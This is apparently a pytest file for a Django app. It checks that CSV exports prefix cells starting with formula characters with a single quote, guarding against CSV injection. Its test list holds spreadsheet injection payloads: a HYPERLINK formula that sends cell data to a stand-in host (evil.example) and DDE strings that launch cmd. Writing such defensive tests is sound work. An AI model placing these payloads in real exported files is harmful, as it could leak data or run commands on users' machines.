"""Defect 3 of issue 10: a cell a spreadsheet would run as a formula is exported as text.

OWASP's advice (CSV injection): a cell starting with =, +, -, @, a tab or a carriage return is
prefixed with a single quote, in the one CSV helper every export uses.
"""

import csv
import io

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.urls import reverse

from installations.models import Case
from tests.installations.factories import CaseFactory
from tests.portal.factories import OrganisationFactory

pytestmark = pytest.mark.django_db

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+33+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_csv(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


@pytest.mark.parametrize("value", DANGEROUS, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_the_admin_export_action_neutralises_a_leading_formula_character(value, territory_a, coordinator_a, login):
    organisation = OrganisationFactory(territory=territory_a, name=value)

    response = login(coordinator_a).post(
        reverse("admin:portal_organisation_changelist"),
        {"action": "export_csv", ACTION_CHECKBOX_NAME: [organisation.pk], "index": 0},
    )

    rows = read_csv(response)
    name_column = rows[0].index("nom")
    assert rows[1][name_column] == "'" + value


@pytest.mark.parametrize("value", DANGEROUS, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_the_case_list_export_neutralises_a_leading_formula_character(value, territory_a, coordinator_a, login):
    CaseFactory(territory=territory_a, applicant_first_name=value)

    rows = read_csv(login(coordinator_a).get(reverse("admin:installations_case_export")))

    assert rows[1][rows[0].index("prénom")] == "'" + value
    assert Case.objects.get().applicant_first_name == value, "only the export is changed"


def test_ordinary_cells_are_exported_unchanged(territory_a, coordinator_a, login):
    CaseFactory(territory=territory_a, applicant_first_name="Anne-Marie", applicant_last_name="O'Neil; Dupont")

    rows = read_csv(login(coordinator_a).get(reverse("admin:installations_case_export")))

    assert rows[1][rows[0].index("prénom")] == "Anne-Marie"
    assert rows[1][rows[0].index("nom")] == "O'Neil; Dupont"
